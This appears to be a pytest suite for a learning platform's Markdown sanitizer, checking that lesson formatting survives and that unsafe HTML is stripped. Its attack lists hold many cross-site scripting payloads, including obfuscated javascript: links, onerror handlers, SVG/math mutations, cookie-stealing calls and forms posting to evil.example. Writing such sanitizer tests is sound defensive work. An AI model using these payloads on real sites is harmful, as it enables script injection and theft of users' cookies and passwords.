"""Lesson Markdown: what authors may use survives, everything that could run code or restyle the page goes.

Output is checked as parsed HTML (tags, attributes, URL schemes), not as text, so an escaped
``&lt;script&gt;`` shown as text is fine and an unquoted ``<img onerror=…>`` is not.
"""

import html as html_lib
import re
import tempfile
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
import sqlalchemy as sa

from courses.content_files import import_course, read_course_folder
from courses.models import LessonTranslation
from lms.extensions import db
from lms.markdown import render_markdown
from support import scalars, write_course

VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track", "wbr"}
FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
                  "form", "input", "button", "textarea", "select", "base", "meta", "link", "noscript", "template"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href",
                  "cite", "longdesc", "usemap"}
BAD_SCHEMES = {"javascript", "vbscript", "data"}


# A small DOM ----------------------------------------------------------------------------------

@dataclass
class Node:
    tag: str
    attrs: dict
    children: list = field(default_factory=list)
    text_parts: list = field(default_factory=list)

    @property
    def text(self) -> str:
        return "".join(self.text_parts).strip()

    @property
    def classes(self) -> set[str]:
        return set((self.attrs.get("class") or "").split())

    def walk(self):
        for child in self.children:
            yield child
            yield from child.walk()

    def find_all(self, tag: str, cls: str | None = None) -> list["Node"]:
        return [node for node in self.walk() if node.tag == tag and (cls is None or cls in node.classes)]

    def find(self, tag: str, cls: str | None = None) -> "Node":
        found = self.find_all(tag, cls)
        assert found, f"no <{tag}{'.' + cls if cls else ''}>"
        return found[0]


class _TreeBuilder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.root = Node("#root", {})
        self.stack = [self.root]

    def handle_starttag(self, tag, attrs):
        node = Node(tag, {name: value or "" for name, value in attrs})
        self.stack[-1].children.append(node)
        if tag not in VOID:
            self.stack.append(node)

    def handle_startendtag(self, tag, attrs):
        self.stack[-1].children.append(Node(tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag):
        for index in range(len(self.stack) - 1, 0, -1):
            if self.stack[index].tag == tag:
                del self.stack[index:]
                return

    def handle_data(self, data):
        for node in self.stack:
            node.text_parts.append(data)


def parse(markup: str) -> Node:
    builder = _TreeBuilder()
    builder.feed(markup)
    builder.close()
    return builder.root


def scheme(url: str) -> str | None:
    """The scheme a browser would see: tabs and newlines removed, surrounding controls and spaces stripped."""
    cleaned = re.sub(r"[\t\n\r]", "", url).strip("".join(chr(code) for code in range(0x21))).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", cleaned)
    return match.group(1) if match else None


def dangers(markup: str) -> list[str]:
    """Everything in ``markup`` that could run script, load a frame or restyle the page."""
    found = []
    for node in parse(markup).walk():
        if node.tag in FORBIDDEN_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attrs.items():
            if name.startswith("on"):
                found.append(f"<{node.tag} {name}>")
            if name == "style":
                found.append(f"<{node.tag} style>")
            if name in URL_ATTRIBUTES:
                urls = [part.strip().split(" ")[0] for part in value.split(",")] if name == "srcset" else [value]
                found += [f"<{node.tag} {name}={value!r}>" for url in urls if scheme(url) in BAD_SCHEMES]
    return found


def assert_safe(markup: str) -> None:
    assert dangers(markup) == [], markup


# What authors write survives ------------------------------------------------------------------

def test_headings_keep_their_level_and_text():
    tree = parse(render_markdown("## Définitions\n\n### Traite des personnes\n\n#### Détail"))

    assert [(node.tag, node.text) for node in tree.children] == [
        ("h2", "Définitions"), ("h3", "Traite des personnes"), ("h4", "Détail")]


def test_level_one_headings_are_left_to_the_page_title():
    tree = parse(render_markdown("# Un titre\n\nTexte."))

    assert tree.find_all("h1") == []
    assert "Un titre" in tree.text


def test_bulleted_and_numbered_lists_survive():
    tree = parse(render_markdown("- un\n- deux\n\n1. premier\n2. second\n3. troisième"))

    assert [item.text for item in tree.find("ul").find_all("li")] == ["un", "deux"]
    assert [item.text for item in tree.find("ol").find_all("li")] == ["premier", "second", "troisième"]


def test_tables_survive_with_header_and_cells():
    tree = parse(render_markdown("| Indicateur | Exemple |\n|---|---|\n| Documents | Passeport confisqué |\n"
                                 "| Dettes | Frais de recrutement |"))

    table = tree.find("table")
    assert [cell.text for cell in table.find("thead").find_all("th")] == ["Indicateur", "Exemple"]
    assert [[cell.text for cell in row.find_all("td")] for row in table.find("tbody").find_all("tr")] == [
        ["Documents", "Passeport confisqué"], ["Dettes", "Frais de recrutement"]]


@pytest.mark.parametrize("url", ["https://www.unodc.org/protocol", "http://example.org/a?b=1&c=2",
                                 "mailto:contact@example.org", "/courses/other", "#section"])
def test_links_keep_safe_targets_and_titles(url):
    tree = parse(render_markdown(f'Voir [le texte]({url} "Le protocole").'))

    link = tree.find("a")
    assert (link.attrs.get("href"), link.attrs.get("title"), link.text) == (url, "Le protocole", "le texte")


@pytest.mark.parametrize("url", ["/uploads/abc123", "https://example.org/figure.png"])
def test_images_keep_source_and_alternative_text(url):
    tree = parse(render_markdown(f'![Carte des routes migratoires]({url} "Routes")'))

    image = tree.find("img")
    assert (image.attrs.get("src"), image.attrs.get("alt"), image.attrs.get("title")) == (
        url, "Carte des routes migratoires", "Routes")


def test_footnotes_link_the_reference_and_the_note_both_ways():
    tree = parse(render_markdown("Le Protocole de Palerme[^palerme] définit la traite.\n\n"
                                 "[^palerme]: Nations unies, 2000, article 3."))

    reference = tree.find("sup").find("a", "footnote-ref")
    notes = tree.find("div", "footnote")
    (note,) = notes.find_all("li")
    assert reference.attrs["href"] == f"#{note.attrs['id']}"
    assert "Nations unies, 2000, article 3." in note.text
    backlink = note.find("a", "footnote-backref")
    assert backlink.attrs["href"] == f"#{tree.find('sup').attrs['id']}"


@pytest.mark.parametrize("kind", ["note", "warning", "tip"])
def test_call_out_boxes_become_titled_admonitions(kind):
    tree = parse(render_markdown(f'Avant.\n\n!!! {kind} "À retenir"\n    Première ligne de **l\'encadré**.\n\n'
                                 f"    Second paragraphe.\n\nAprès."))

    box = tree.find("div", "admonition")
    assert box.classes == {"admonition", kind}
    paragraphs = box.find_all("p")
    assert (paragraphs[0].classes, paragraphs[0].text) == ({"admonition-title"}, "À retenir")
    assert [p.text for p in paragraphs[1:]] == ["Première ligne de l'encadré.", "Second paragraphe."]
    assert box.find("strong").text == "l'encadré"
    assert [p.text for p in tree.children if p.tag == "p"] == ["Avant.", "Après."]


def test_emphasis_quotes_and_inline_code_survive():
    tree = parse(render_markdown("*souligné* **important**\n\n> Une citation.\n\nTaper `flask run`."))

    assert tree.find("em").text == "souligné" and tree.find("strong").text == "important"
    assert tree.find("blockquote").text == "Une citation."
    assert tree.find("code").text == "flask run"


def test_arabic_text_is_kept_as_written():
    text = "## المراجع\n\n- بروتوكول باليرمو، المادة 3."

    tree = parse(render_markdown(text))

    assert tree.find("h2").text == "المراجع"
    assert tree.find("li").text == "بروتوكول باليرمو، المادة 3."


# What could run code or restyle the page goes -------------------------------------------------

ATTACKS = {
    "script": "<script>alert('xss')</script>",
    "script mixed case": "<ScRiPt>alert('xss')</sCrIpT>",
    "script split": "<scr<script>ipt>alert('xss')</script>",
    "script in a call-out": '!!! note "Titre"\n    <script>alert(\'xss\')</script>',
    "img onerror": "<img src=x onerror=alert('xss')>",
    "onerror upper case": "<IMG SRC=x ONERROR=alert('xss')>",
    "onclick on a paragraph": "<p onclick=\"alert('xss')\">x</p>",
    "onmouseover on a link": '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "svg onload": "<svg onload=alert('xss')>",
    "svg with script": "<svg><script>alert('xss')</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "markdown javascript link": "[x](javascript:alert('xss'))",
    "markdown javascript mixed case": "[x](JaVaScRiPt:alert('xss'))",
    "markdown javascript entity": "[x](&#106;avascript:alert('xss'))",
    "markdown javascript tab entity": "[x](jav&#x09;ascript:alert('xss'))",
    "markdown javascript reference": "[x][r]\n\n[r]: javascript:alert('xss')",
    "markdown javascript angle brackets": "[x](<javascript:alert('xss')>)",
    "markdown javascript image": "![x](javascript:alert('xss'))",
    "html javascript link": "<a href='javascript:alert(1)'>x</a>",
    "html javascript upper case": '<a href="JAVASCRIPT:alert(1)">x</a>',
    "html javascript leading space": "<a href=' javascript:alert(1)'>x</a>",
    "html javascript control character": '<a href="\x01javascript:alert(1)">x</a>',
    "html javascript tab": "<a href='jav\tascript:alert(1)'>x</a>",
    "html javascript newline": "<a href='java\nscript:alert(1)'>x</a>",
    "html javascript tab entity": '<a href="jav&#9;ascript:alert(1)">x</a>',
    "html javascript named entities": '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
    "html javascript hex entities": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
                                    'alert(1)">x</a>',
    "html javascript padded decimal entity": '<a href="&#0000106avascript:alert(1)">x</a>',
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data link upper case padded": '<a href="  DATA:text/html,<script>alert(1)</script>">x</a>',
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "srcset javascript": '<img src="/uploads/a" srcset="javascript:alert(1) 2x">',
    "iframe": "<iframe src='https://evil.example'></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "object": "<object data='https://evil.example/x.swf'></object>",
    "embed": "<embed src='https://evil.example/x.swf'>",
    "style attribute": "<p style='position:fixed;top:0'>x</p>",
    "style attribute with url": '<div style="background:url(javascript:alert(1))">x</div>',
    "style block": "<style>body { display: none }</style>",
    "form": "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "base": "<base href='https://evil.example/'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "link stylesheet": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "noscript breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_dangerous_markup_never_reaches_the_output(attack):
    output = render_markdown(f"Avant.\n\n{attack}\n\nAprès.")

    assert_safe(output)
    assert "<p>Avant.</p>" in output


@pytest.mark.parametrize("attack", [ATTACKS["script"], ATTACKS["svg with script"], ATTACKS["style block"]],
                         ids=["script", "svg script", "style"])
def test_script_and_style_contents_are_dropped_not_shown(attack):
    output = render_markdown(attack)

    assert "alert" not in output and "display" not in output


def test_unknown_classes_are_dropped_and_admonition_classes_kept():
    tree = parse(render_markdown('<div class="admonition note evil-overlay">x</div>\n\n<p class="x">y</p>'))

    assert tree.find("div").classes == {"admonition", "note"}
    assert tree.find("p").classes == set()


def test_code_shows_markup_as_text():
    output = render_markdown("Exemple : `<script>alert(1)</script>`\n\n    <iframe src=x></iframe>")

    assert_safe(output)
    assert parse(output).find("code").text == "<script>alert(1)</script>"


def test_the_checker_sees_what_it_must_reject():
    """The helpers of this module fail on unsafe markup, so the tests above can fail."""
    unsafe = ('<p style="x" onclick="y">a</p><a href=" Java&#9;Script:alert(1)">b</a><iframe></iframe>'
              '<img srcset="/a 1x, data:image/png;base64,AA 2x">')

    assert sorted(dangers(unsafe)) == sorted([
        "<p onclick>", "<p style>", "<a href=' Java\\tScript:alert(1)'>", "<iframe>",
        "<img srcset='/a 1x, data:image/png;base64,AA 2x'>"])


# Through an import and the lesson page --------------------------------------------------------

RICH = """!!! warning "Attention"
    Ne jamais confronter l'exploiteur.

| Indicateur | Exemple |
|---|---|
| Documents | Passeport confisqué |

Voir le protocole[^1] et [le site](https://www.unodc.org).

![Schéma](/uploads/abc123)

[^1]: Nations unies, 2000."""

PAGE_ATTACKS = [
    "<script>steal('marker-script')</script>",
    "<img src=x onerror=\"steal('marker-onerror')\">",
    "[clic](javascript:steal(document.cookie)//marker-js)",
    "[clic](JaVa&#x09;ScRiPt:steal(document.cookie)//marker-js-entity)",
    "<a href=\" jav&#x0A;ascript:steal('marker-js-newline')\">x</a>",
    "<iframe src=\"https://evil.example/marker-iframe\"></iframe>",
    "<object data=\"https://evil.example/marker-object\"></object>",
    "<embed src=\"https://evil.example/marker-embed\">",
    "<p style=\"marker-style-attribute: 1\">texte</p>",
    "<style>.marker-style-block { display: none }</style>",
    "<svg><script>steal('marker-svg')</script></svg>",
    "<svg onload=\"steal('marker-svg-onload')\"></svg>",
    "[données](data:text/html,marker-data)",
    "<a href=\"data:text/html;base64,bWFya2VyLWRhdGEtYjY0\">x</a>",
]


PAGE_FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math", "base"}


def import_with(app, slug: str, extra_markdown: str) -> None:
    folder = write_course(Path(tempfile.mkdtemp()), slug=slug, lessons=2, extra_markdown=extra_markdown)
    with app.app_context():
        import_course(read_course_folder(folder))
        db.session.commit()


def lesson_article(page: str) -> str:
    match = re.search(r'<article class="lesson"[^>]*>(.*?)</article>', page, re.DOTALL)
    assert match, page[:500]
    return match.group(1)


def test_import_stores_sanitized_html_with_every_feature_in_every_language(app):
    import_with(app, "rich-course", RICH + "\n\n" + "\n\n".join(PAGE_ATTACKS))

    rows = scalars(app, sa.select(LessonTranslation))
    assert len(rows) == 6
    for row in rows:
        assert_safe(row.body_html)
        assert "marker" not in row.body_html
        tree = parse(row.body_html)
        assert tree.find("div", "admonition").classes == {"admonition", "warning"}
        assert tree.find("table").find("td").text == "Documents"
        assert tree.find("a", "footnote-ref") and tree.find("div", "footnote")
        assert tree.find("img").attrs["src"] == "/uploads/abc123"
        assert [h2.text for h2 in tree.find_all("h2")] == ["Section", "Sources"]
        assert "steal(" in row.body_markdown  # the source is kept as the author wrote it


def test_lesson_page_shows_the_content_and_none_of_the_attacks(app, client, make, login_as):
    import_with(app, "attacked-course", RICH + "\n\n" + "\n\n".join(PAGE_ATTACKS))
    login_as(make.user(locale="fr"))
    assert client.post_form("/courses/attacked-course/enroll").status_code == 302

    response = client.get("/courses/attacked-course/lessons/lesson-001")

    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "marker" not in html_lib.unescape(page)
    article = lesson_article(page)
    assert_safe(article)
    tree = parse(article)
    assert tree.find("div", "admonition").find("p", "admonition-title").text == "Attention"
    assert tree.find("table") and tree.find("div", "footnote")
    assert tree.find("a", "footnote-ref").attrs["href"].startswith("#")
    assert any(link.attrs.get("href") == "https://www.unodc.org" for link in tree.find_all("a"))
    # The page around the lesson has forms and a stylesheet of its own, but nothing that runs or restyles.
    whole = parse(page)
    assert [node.tag for node in whole.walk() if node.tag in PAGE_FORBIDDEN_TAGS] == []
    assert [(node.tag, name) for node in whole.walk() for name in node.attrs
            if name.startswith("on") or name == "style"] == []
